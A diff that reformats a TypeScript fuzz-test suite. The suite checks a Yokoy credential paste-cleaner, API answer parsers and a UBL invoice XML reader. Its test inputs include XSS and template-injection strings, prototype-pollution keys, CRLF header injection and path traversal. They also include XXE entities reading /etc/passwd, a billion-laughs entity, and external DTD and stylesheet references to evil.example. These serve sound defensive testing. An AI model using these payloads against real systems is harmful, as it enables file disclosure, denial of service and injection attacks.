@@ -39,7 +39,16 @@ const nastyString = fc.oneof(
   fc.string({ maxLength: 40 }),
   fc.string({ unit: 'grapheme', maxLength: 40 }),
   fc.string({ unit: 'binary', maxLength: 40 }),
-  fc.constantFrom('', '\u0000', '\r\n', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '{{constructor.constructor("alert(1)")()}}', '__proto__', 'x'.repeat(100_000)),
+  fc.constantFrom(
+    '',
+    '\u0000',
+    '\r\n',
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    '{{constructor.constructor("alert(1)")()}}',
+    '__proto__',
+    'x'.repeat(100_000),
+  ),
 );
 /** Any JSON-ish value, nested. */
 const json: fc.Arbitrary<unknown> = fc.letrec<{ v: unknown }>((tie) => ({
@@ -53,10 +62,26 @@ const json: fc.Arbitrary<unknown> = fc.letrec<{ v: unknown }>((tie) => ({
     fc.dictionary(fc.oneof(nastyString, fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString')), tie('v'), { maxKeys: 4 }),
   ),
 })).v;
-const anything = fc.oneof(json, fc.anything({ withBigInt: true, withDate: true, withMap: true, withSet: true, withTypedArray: true, withNullPrototype: true, withSparseArray: true }));
+const anything = fc.oneof(
+  json,
+  fc.anything({
+    withBigInt: true,
+    withDate: true,
+    withMap: true,
+    withSet: true,
+    withTypedArray: true,
+    withNullPrototype: true,
+    withSparseArray: true,
+  }),
+);
 /** An object with the schema's keys, each holding any value (a near-miss: right shape, wrong types). */
 const shaped = (keys: string[], value: fc.Arbitrary<unknown> = fc.oneof(json, nastyNumber, nastyString)) =>
-  fc.tuple(fc.dictionary(fc.constantFrom(...keys), value, { maxKeys: keys.length }), fc.dictionary(fc.string({ maxLength: 6 }), json, { maxKeys: 2 })).map(([a, b]) => ({ ...b, ...a }));
+  fc
+    .tuple(
+      fc.dictionary(fc.constantFrom(...keys), value, { maxKeys: keys.length }),
+      fc.dictionary(fc.string({ maxLength: 6 }), json, { maxKeys: 2 }),
+    )
+    .map(([a, b]) => ({ ...b, ...a }));
 
 /** safeParse answers its typed shape and never throws. */
 function expectSafeParseShape(result: { success: boolean; data?: unknown; error?: unknown }) {
@@ -73,19 +98,46 @@ const findingKinds = ['label-removed', 'quotes-removed', 'whitespace-removed', '
 /** What people paste: labels in four languages, quotes, zero-width and non-breaking spaces, line breaks, other fields' values. */
 const paste = fc
   .tuple(
-    fc.constantFrom('', 'Client ID: ', 'Client secret = ', 'ID da organização Yokoy ', 'Organisation-ID:', 'Clientgeheim\n', 'Secret:\r\n', 'id ', '“', '«', '"', "'", '`'),
+    fc.constantFrom(
+      '',
+      'Client ID: ',
+      'Client secret = ',
+      'ID da organização Yokoy ',
+      'Organisation-ID:',
+      'Clientgeheim\n',
+      'Secret:\r\n',
+      'id ',
+      '“',
+      '«',
+      '"',
+      "'",
+      '`',
+    ),
     fc.oneof(
       fc.stringMatching(/^[\w-]{1,40}$/),
       fc.uuid(),
       fc.string({ unit: 'grapheme', maxLength: 40 }),
       fc.string({ unit: 'binary', maxLength: 40 }),
-      fc.constantFrom('sbx_ready_secret_6f1c2a9e4b7d', 'o7Hq2LmXc9', 'Abc+/=._~xyzXYZ0123456789', '\u200b\ufeffvalue\u00a0', 'a\u0000b', 'tab\there', 'crlf\r\nInjected: yes'),
+      fc.constantFrom(
+        'sbx_ready_secret_6f1c2a9e4b7d',
+        'o7Hq2LmXc9',
+        'Abc+/=._~xyzXYZ0123456789',
+        '\u200b\ufeffvalue\u00a0',
+        'a\u0000b',
+        'tab\there',
+        'crlf\r\nInjected: yes',
+      ),
     ),
     fc.constantFrom('', ' ', '\n', '”', '»', '"', "'", '`', '\u200d', '  \t'),
   )
   .map(([a, b, c]) => a + b + c);
 /** Adversarial for the label regex: long runs of letters, separators and colons, up to the protocol's 2,000 characters. */
-const backtracking = fc.tuple(fc.array(fc.constantFrom('a', 'é', ' ', '-', '_', ':', '=', '(', '’', '.', '\n', 'x1'), { minLength: 200, maxLength: 2_000 }), fc.constantFrom('', '!', ' ', 'ok')).map(([parts, end]) => parts.join('').slice(0, 2_000) + end);
+const backtracking = fc
+  .tuple(
+    fc.array(fc.constantFrom('a', 'é', ' ', '-', '_', ':', '=', '(', '’', '.', '\n', 'x1'), { minLength: 200, maxLength: 2_000 }),
+    fc.constantFrom('', '!', ' ', 'ok'),
+  )
+  .map(([parts, end]) => parts.join('').slice(0, 2_000) + end);
 
 function expectChecked(field: CredentialField, checked: Checked) {
   expect(typeof checked.value).toBe('string');
@@ -104,9 +156,16 @@ describe('the credential paste-cleaner under fuzz', () => {
   for (const field of fields) {
     it(`${field}: 1,000 pastes, random and near-miss, each answer typed; accepted values are header-safe`, () => {
       fc.assert(
-        fc.property(fc.oneof(paste, fc.string(), fc.string({ unit: 'binary', maxLength: 200 }), nastyString), fc.array(fc.stringMatching(/^[\w-]{1,21}$/), { maxLength: 3 }), (raw, known) => {
-          expectChecked(field, checkCredential(field, raw, { knownLegalEntityIds: known, others: { clientId: known[0], organizationId: known[1] } }));
-        }),
+        fc.property(
+          fc.oneof(paste, fc.string(), fc.string({ unit: 'binary', maxLength: 200 }), nastyString),
+          fc.array(fc.stringMatching(/^[\w-]{1,21}$/), { maxLength: 3 }),
+          (raw, known) => {
+            expectChecked(
+              field,
+              checkCredential(field, raw, { knownLegalEntityIds: known, others: { clientId: known[0], organizationId: known[1] } }),
+            );
+          },
+        ),
         RUNS,
       );
     });
@@ -146,8 +205,14 @@ describe("Yokoy's answer parsers under fuzz", () => {
   });
 
   it('LegalEntitiesAnswer: 1,000 answers; an accepted entity id is always [\\w-]+ (it goes into URLs)', () => {
-    const entity = shaped(['id', 'name', 'code', 'language', 'country', 'currency'], fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)));
-    const nearMiss = fc.oneof(fc.array(entity, { maxLength: 5 }).map((legalEntities) => ({ legalEntities })), shaped(['legalEntities']));
+    const entity = shaped(
+      ['id', 'name', 'code', 'language', 'country', 'currency'],
+      fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)),
+    );
+    const nearMiss = fc.oneof(
+      fc.array(entity, { maxLength: 5 }).map((legalEntities) => ({ legalEntities })),
+      shaped(['legalEntities']),
+    );
     fc.assert(
       fc.property(fc.oneof(anything, nearMiss), (body) => {
         const result = LegalEntitiesAnswer.safeParse(body);
@@ -160,7 +225,9 @@ describe("Yokoy's answer parsers under fuzz", () => {
 
   it('ErrorBody: 1,000 answers; accepted messages are strings (shown as text)', () => {
     const nearMiss = shaped(['code', 'message', 'errors', 'error', 'error_description']);
-    const withErrors = fc.array(shaped(['field', 'message']), { maxLength: 4 }).map((errors) => ({ code: 400, message: 'Validation Error', errors }));
+    const withErrors = fc
+      .array(shaped(['field', 'message']), { maxLength: 4 })
+      .map((errors) => ({ code: 400, message: 'Validation Error', errors }));
     fc.assert(
       fc.property(fc.oneof(anything, nearMiss, withErrors), (body) => {
         const result = ErrorBody.safeParse(body);
@@ -172,7 +239,10 @@ describe("Yokoy's answer parsers under fuzz", () => {
   });
 
   it('YokoyInvoice: 1,000 answers; an accepted invoice id is always [\\w-]+', () => {
-    const nearMiss = shaped(['id', 'invoiceNumber', 'date', 'currency', 'grossAmount', 'customInformation'], fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)));
+    const nearMiss = shaped(
+      ['id', 'invoiceNumber', 'date', 'currency', 'grossAmount', 'customInformation'],
+      fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)),
+    );
     fc.assert(
       fc.property(fc.oneof(anything, nearMiss), (body) => {
         const result = YokoyInvoice.safeParse(body);
@@ -186,7 +256,21 @@ describe("Yokoy's answer parsers under fuzz", () => {
 
 // ---- the invoice answers through the real client --------------------------------------
 
-const failureKinds: YokoyFailureKind[] = ['invalid-client', 'organization-mismatch', 'missing-permission', 'not-found', 'validation', 'conflict', 'rate-limited', 'server', 'network', 'malformed-answer', 'unauthorized', 'not-configured', 'legal-entity-gone'];
+const failureKinds: YokoyFailureKind[] = [
+  'invalid-client',
+  'organization-mismatch',
+  'missing-permission',
+  'not-found',
+  'validation',
+  'conflict',
+  'rate-limited',
+  'server',
+  'network',
+  'malformed-answer',
+  'unauthorized',
+  'not-configured',
+  'legal-entity-gone',
+];
 
 /** The real client and invoice API over a fake Yokoy that answers `answer()` to every /v1 call. */
 function apiAnswering(answer: () => { status: number; text: string }) {
@@ -212,13 +296,27 @@ function expectResult(result: YokoyResult<unknown>) {
   if (!result.ok) expect(failureKinds).toContain(result.failure.kind);
 }
 
-const invoiceLike = shaped(['id', 'invoiceNumber', 'date', 'currency', 'grossAmount', 'customInformation'], fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)));
+const invoiceLike = shaped(
+  ['id', 'invoiceNumber', 'date', 'currency', 'grossAmount', 'customInformation'],
+  fc.oneof(nastyString, nastyNumber, json, fc.stringMatching(/^[\w-]{1,20}$/)),
+);
 /** Answer bodies: JSON of anything or of near-miss invoices, lists, pages, base64 answers; and text that is not JSON. */
 const invoiceBody = fc.oneof(
-  anything.map((v) => { try { return JSON.stringify(v) ?? ''; } catch { return '{'; } }),
+  anything.map((v) => {
+    try {
+      return JSON.stringify(v) ?? '';
+    } catch {
+      return '{';
+    }
+  }),
   fc.array(invoiceLike, { maxLength: 3 }).map((a) => JSON.stringify(a)),
   invoiceLike.map((i) => JSON.stringify(i)),
-  fc.record({ invoices: fc.oneof(fc.array(invoiceLike, { maxLength: 3 }), json), nextCursor: fc.oneof(nastyString, json) }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
+  fc
+    .record(
+      { invoices: fc.oneof(fc.array(invoiceLike, { maxLength: 3 }), json), nextCursor: fc.oneof(nastyString, json) },
+      { requiredKeys: [] },
+    )
+    .map((v) => JSON.stringify(v)),
   fc.record({ pdfBase64: fc.oneof(fc.base64String(), nastyString, json) }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
   fc.string({ maxLength: 200 }),
   fc.constantFrom('', '{', '{"invoices":[{"id":"a"', 'null', '[]', '[null]', '{"id":"../../x"}', '{"id":"ok","grossAmount":1e999}'),
@@ -232,7 +330,11 @@ describe('the invoice answers under fuzz (through the real client)', () => {
         const api = apiAnswering(() => ({ status: code, text }));
         const pdf = new Blob([new Uint8Array([37, 80, 68, 70, 45])]);
         const result =
-          call === 'create' ? await api.createFromUbl('le-1', '<Invoice/>', pdf, 'f') : call === 'find' ? await api.find('le-1', 'x eq "y"', 3) : await api.tag('le-1', 'inv-1', 'doc');
+          call === 'create'
+            ? await api.createFromUbl('le-1', '<Invoice/>', pdf, 'f')
+            : call === 'find'
+              ? await api.find('le-1', 'x eq "y"', 3)
+              : await api.tag('le-1', 'inv-1', 'doc');
         expectResult(result);
         if (result.ok && call === 'create') expect((result.value as { id: string }).id).toMatch(/^[\w-]+$/);
         if (result.ok && call === 'find') for (const i of result.value as { id: string }[]) expect(i.id).toMatch(/^[\w-]+$/);
@@ -255,9 +357,24 @@ describe('the invoice answers under fuzz (through the real client)', () => {
 
   it('the PDF (base64) answer: well-formed base64 and wrong shapes give typed results', async () => {
     await fc.assert(
-      fc.asyncProperty(fc.oneof(fc.base64String().map((b) => JSON.stringify({ pdfBase64: b })), anything.filter((v) => typeof (v as { pdfBase64?: unknown } | null)?.pdfBase64 !== 'string').map((v) => { try { return JSON.stringify(v) ?? ''; } catch { return '{'; } })), status, async (text, code) => {
-        expectResult(await apiAnswering(() => ({ status: code, text })).pdf('le-1', 'inv-1'));
-      }),
+      fc.asyncProperty(
+        fc.oneof(
+          fc.base64String().map((b) => JSON.stringify({ pdfBase64: b })),
+          anything
+            .filter((v) => typeof (v as { pdfBase64?: unknown } | null)?.pdfBase64 !== 'string')
+            .map((v) => {
+              try {
+                return JSON.stringify(v) ?? '';
+              } catch {
+                return '{';
+              }
+            }),
+        ),
+        status,
+        async (text, code) => {
+          expectResult(await apiAnswering(() => ({ status: code, text })).pdf('le-1', 'inv-1'));
+        },
+      ),
       RUNS,
     );
   });
@@ -265,32 +382,68 @@ describe('the invoice answers under fuzz (through the real client)', () => {
 
 // ---- the UBL reader ------------------------------------------------------------------
 
-const fixtures = ['invoice-be-imprimerie.xml', 'creditnote-nl-reverse-charge.xml', 'broken-truncated.xml'].map((f) => readFileSync(resolve(import.meta.dirname, '../fixtures/ubl', f), 'utf8'));
+const fixtures = ['invoice-be-imprimerie.xml', 'creditnote-nl-reverse-charge.xml', 'broken-truncated.xml'].map((f) =>
+  readFileSync(resolve(import.meta.dirname, '../fixtures/ubl', f), 'utf8'),
+);
 const good = fixtures[0]!;
 
 /** Structured mutations of a real invoice: wrong namespace, DTDs and entities, truncation, swapped tags, junk amounts, nesting. */
 const ublMutation = fc.oneof(
   fc.tuple(fc.constantFrom(...fixtures), fc.nat()).map(([x, n]) => x.slice(0, n % (x.length + 1))),
-  fc.constantFrom(
-    'urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2',
-    'http://evil.example/ns',
-    '',
-    'urn:oasis:names:specification:ubl:schema:xsd:Invoice-3',
-  ).map((ns) => good.replace('urn:oasis:names:specification:ubl:schema:xsd:Invoice-2', ns)),
-  fc.constantFrom(
-    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
-    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
-    '<!doctype x SYSTEM "http://evil.example/x.dtd">',
-    '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
-  ).map((dtd) => good.replace('<Invoice', `${dtd}<Invoice`).replace('F2026/0457</cbc:ID>', '&xxe;&lol2;</cbc:ID>')),
-  fc.tuple(fc.constantFrom('cbc:ID', 'cbc:IssueDate', 'cbc:DocumentCurrencyCode', 'cbc:PayableAmount', 'cbc:TaxAmount', 'cbc:Name', 'cac:LegalMonetaryTotal'), fc.oneof(nastyString, nastyNumber.map(String), fc.constantFrom('<x>', '</cbc:ID>', ']]>', '<![CDATA[<b>]]>', '&amp;&lt;&#0;&#x110000;&#99999999;', '&unknown;'))).map(([tag, value]) => {
-    const re = new RegExp(`<${tag}([^>]*)>[^<]*</${tag}>`);
-    return good.replace(re, `<${tag}$1>${value}</${tag}>`);
-  }),
-  fc.tuple(fc.constantFrom('Invoice', 'cbc:ID', 'cac:AccountingSupplierParty', 'cbc:IssueDate'), fc.constantFrom('Invoic', 'cbc:Id', 'evil:ID', 'ID xmlns="x"')).map(([from, to]) => good.split(`<${from}`).join(`<${to}`)),
-  fc.integer({ min: 1, max: 2_000 }).map((depth) => good.replace('</Invoice>', `${'<cac:Nested>'.repeat(depth)}${'</cac:Nested>'.repeat(depth)}</Invoice>`)),
+  fc
+    .constantFrom(
+      'urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2',
+      'http://evil.example/ns',
+      '',
+      'urn:oasis:names:specification:ubl:schema:xsd:Invoice-3',
+    )
+    .map((ns) => good.replace('urn:oasis:names:specification:ubl:schema:xsd:Invoice-2', ns)),
+  fc
+    .constantFrom(
+      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
+      '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+      '<!doctype x SYSTEM "http://evil.example/x.dtd">',
+      '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
+    )
+    .map((dtd) => good.replace('<Invoice', `${dtd}<Invoice`).replace('F2026/0457</cbc:ID>', '&xxe;&lol2;</cbc:ID>')),
+  fc
+    .tuple(
+      fc.constantFrom(
+        'cbc:ID',
+        'cbc:IssueDate',
+        'cbc:DocumentCurrencyCode',
+        'cbc:PayableAmount',
+        'cbc:TaxAmount',
+        'cbc:Name',
+        'cac:LegalMonetaryTotal',
+      ),
+      fc.oneof(
+        nastyString,
+        nastyNumber.map(String),
+        fc.constantFrom('<x>', '</cbc:ID>', ']]>', '<![CDATA[<b>]]>', '&amp;&lt;&#0;&#x110000;&#99999999;', '&unknown;'),
+      ),
+    )
+    .map(([tag, value]) => {
+      const re = new RegExp(`<${tag}([^>]*)>[^<]*</${tag}>`);
+      return good.replace(re, `<${tag}$1>${value}</${tag}>`);
+    }),
+  fc
+    .tuple(
+      fc.constantFrom('Invoice', 'cbc:ID', 'cac:AccountingSupplierParty', 'cbc:IssueDate'),
+      fc.constantFrom('Invoic', 'cbc:Id', 'evil:ID', 'ID xmlns="x"'),
+    )
+    .map(([from, to]) => good.split(`<${from}`).join(`<${to}`)),
+  fc
+    .integer({ min: 1, max: 2_000 })
+    .map((depth) => good.replace('</Invoice>', `${'<cac:Nested>'.repeat(depth)}${'</cac:Nested>'.repeat(depth)}</Invoice>`)),
   fc.integer({ min: 1, max: 500 }).map((n) => good.replace('<cbc:ID>F2026/0457</cbc:ID>', '<cbc:ID>F2026/0457</cbc:ID>'.repeat(n))),
-  fc.constantFrom(good.replace(/<\/[^>]+>$/, ''), good.replace(/>/g, ''), good.replace(/</g, '&lt;'), `${good}${good}`, `<Invoice>${'x'.repeat(1_000_000)}</Invoice>`),
+  fc.constantFrom(
+    good.replace(/<\/[^>]+>$/, ''),
+    good.replace(/>/g, ''),
+    good.replace(/</g, '&lt;'),
+    `${good}${good}`,
+    `<Invoice>${'x'.repeat(1_000_000)}</Invoice>`,
+  ),
 );
 const ublInput: fc.Arbitrary<string | Buffer> = fc.oneof(
   ublMutation,
